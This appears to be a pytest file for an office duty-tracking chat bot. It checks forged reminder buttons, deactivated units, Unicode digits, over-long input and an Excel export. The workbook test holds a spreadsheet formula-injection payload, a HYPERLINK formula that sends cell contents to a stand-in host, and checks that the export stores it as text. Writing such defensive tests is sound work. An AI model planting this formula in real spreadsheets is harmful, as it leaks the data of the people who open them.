"""Second review of the office's duty views through the bot: forged reminder buttons, deactivated
units, switched-off duties, numbers typed in odd digits, over-long input and the workbook."""

from __future__ import annotations

from datetime import UTC, datetime
from io import BytesIO
from typing import Any

from openpyxl import load_workbook
from sqlmodel import select

from bot.runtime import callbacks as cb
from db.ledger.items import NewItem, add_item
from db.models import Department, LedgerSource, OutboxMessage
from db.office.campaigns import init_campaign
from tests.handlers.duties.test_duty_office import (
    ADMIN,
    EN,
    LIAISON,
    audit_actions,
    file,
    office_bot,
    run_db,
    unit_id,
)
from tests.harness import Harness, labels, texts

__all__ = ["office_bot"]

THREE_UNITS = "/duty\n类型：工作方案\n标题：实施方案\n范围：单位 D011 D012 D013\n期限：2026-03-20"


async def deactivate(bot: Harness, code: str) -> None:
    async def work(session: Any) -> None:
        unit = (await session.exec(select(Department).where(Department.code == code))).one()
        unit.active = False
        session.add(unit)

    await run_db(bot, work)


async def remind_keys(bot: Harness) -> list[str]:
    async def work(session: Any) -> list[str]:
        rows = (await session.exec(select(OutboxMessage.dedupe_key))).all()
        return [k for k in rows if k.startswith("duty-remind:")]

    result: list[str] = await run_db(bot, work)
    return result


async def test_a_forged_reminder_period_is_refused_politely(office_bot: Harness) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    bot.clock.now = datetime(2026, 3, 23, 2, 0, tzinfo=UTC)
    status = (await bot.say(ADMIN, "/duties status 1"))[-1]
    await bot.press_data(ADMIN, cb.DUTY_REMIND.pack(1, "2026-Q9"), status)
    assert bot.last_answer()["text"] == EN("This button is no longer valid.")
    assert await remind_keys(bot) == []
    assert [a for a in await audit_actions(bot) if a[0] == "duty.remind"] == []


async def test_deactivated_units_owe_nothing_and_are_not_reminded(office_bot: Harness) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    await file(bot, "D012")
    await deactivate(bot, "D012")  # filed before it was merged away: stays on record
    await deactivate(bot, "D013")  # filed nothing: owes nothing any more
    bot.clock.now = datetime(2026, 3, 23, 2, 0, tzinfo=UTC)
    status = (await bot.say(ADMIN, "/duties status 1"))[-1]
    assert "D013" not in status["text"] and "D012" in status["text"]
    assert "missing 1" in status["text"]
    assert labels(bot.api, status) == [EN("Remind the {count} missing units now").format(count=1)]
    assert "D013" not in texts(await bot.say(ADMIN, "/duties status"))
    answer = texts(await bot.press(ADMIN, labels(bot.api, status)[0]))
    assert "1 units reminded now" in answer and "0 without a reachable liaison" in answer


async def test_a_switched_off_duty_reminds_nobody(office_bot: Harness) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    bot.clock.now = datetime(2026, 3, 23, 2, 0, tzinfo=UTC)
    status = (await bot.say(ADMIN, "/duties status 1"))[-1]
    await bot.say(ADMIN, "/duty off 1")
    before = len(bot.api.sent_messages(LIAISON.id))
    await bot.press_data(ADMIN, cb.DUTY_REMIND.pack(1, "once"), status)
    assert "switched off" in bot.last_answer()["text"]
    assert len(bot.api.sent_messages(LIAISON.id)) == before
    assert await remind_keys(bot) == []


async def test_a_period_typed_in_another_case(office_bot: Harness) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    shown = texts(await bot.say(ADMIN, "/duties status 1 ONCE"))
    assert "#1 实施方案" in shown and "no period" not in shown


async def test_numbers_in_other_digits_are_unknown_numbers(office_bot: Harness) -> None:
    """`²` is a digit to str.isdigit but int() refuses it: every command answers, none fails."""
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    assert "No duty has the number ²" in texts(await bot.say(ADMIN, "/duty edit ²"))
    assert "No duty has the number #²" in texts(await bot.say(ADMIN, "/duty off #²"))
    assert "No duty has the number ²" in texts(await bot.say(ADMIN, "/duties status ²"))
    assert "/submission 12" in texts(await bot.say(ADMIN, "/submission ²"))
    assert "No unit has the code #²" in texts(await bot.say(ADMIN, "/ledger #²"))
    assert "整改条目 ²" in texts(await bot.say(LIAISON, "/ledger ²"))
    await run_db(bot, lambda session: init_campaign(session, "zhengfeng-2011", 2026))
    assert "/campaign phase N" in texts(
        await bot.say(ADMIN, "/campaign phase ² 2026-03-01 2026-09-30")
    )


def longest_sent(bot: Harness, chat_id: int) -> int:
    return max(len(m["text"]) for m in bot.api.sent_messages(chat_id))


async def test_long_forms_and_words_are_answered_within_one_message(office_bot: Harness) -> None:
    bot = office_bot
    questions = "\n".join(f"{n:02d}" + "问" * 297 + "？" for n in range(13))
    form = "/duty\n类型：季度报送\n标题：季报\n范围：全部\n期限：每季度结束后5个工作日\n问题：\n"
    assert "Duty #1 created" in texts(await bot.say(ADMIN, form + questions))
    shown = texts(await bot.say(ADMIN, "/duty edit 1"))
    assert "类型：季度报送" in shown and "00问问" in shown
    assert "could not read the line" in texts(await bot.say(ADMIN, "/duty " + "x" * 4000))
    assert "No active unit has the code" in texts(
        await bot.say(
            ADMIN, "/duty\n类型：总结\n标题：总结\n期限：2026-12-20\n范围：单位 " + "D9 " * 1300
        )
    )
    assert "No duty has the number" in texts(await bot.say(ADMIN, "/duty off " + "x" * 4000))
    assert "No duty has the number" in texts(await bot.say(ADMIN, "/duties status " + "x" * 4000))
    assert "No unit has the code" in texts(await bot.say(ADMIN, "/ledger " + "x" * 4000))
    assert longest_sent(bot, ADMIN.id) <= 4096
    assert bot.api.violations == []


async def test_the_workbook_names_periods_and_keeps_typed_text_as_text(
    office_bot: Harness,
) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    await file(bot, "D011")
    unit = await unit_id(bot, "D011")
    trap = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    due = datetime(2026, 3, 31, 8, tzinfo=UTC)
    await run_db(
        bot,
        lambda session: add_item(
            session,
            NewItem(unit, LedgerSource.inspection, trap, due),
            actor_account_id=None,
            now=bot.clock.now,
        ),
    )
    await bot.say(ADMIN, "/export duties 2026-03-01 2026-03-31")
    [path] = list((bot.settings.data_dir / "exports").glob("duties-20260301-20260331-*.xlsx"))
    workbook = load_workbook(BytesIO(path.read_bytes()))
    filed = list(workbook.worksheets[0].iter_rows(min_row=2))
    assert {row[4].value for row in filed} == {EN("one-off")}
    [item] = list(workbook.worksheets[1].iter_rows(min_row=2))
    assert item[5].value == trap and item[5].data_type == "s"


async def test_a_past_one_off_duty_can_still_be_retitled(office_bot: Harness) -> None:
    bot = office_bot
    await bot.say(ADMIN, THREE_UNITS)
    bot.clock.now = datetime(2026, 3, 23, 2, 0, tzinfo=UTC)
    assert "Duty #1 changed" in texts(await bot.say(ADMIN, "/duty edit 1\n标题：实施方案（修订）"))
    assert "already passed" in texts(await bot.say(ADMIN, "/duty edit 1\n期限：2026-03-21"))
    assert "实施方案（修订）" in texts(await bot.say(ADMIN, "/duty list"))
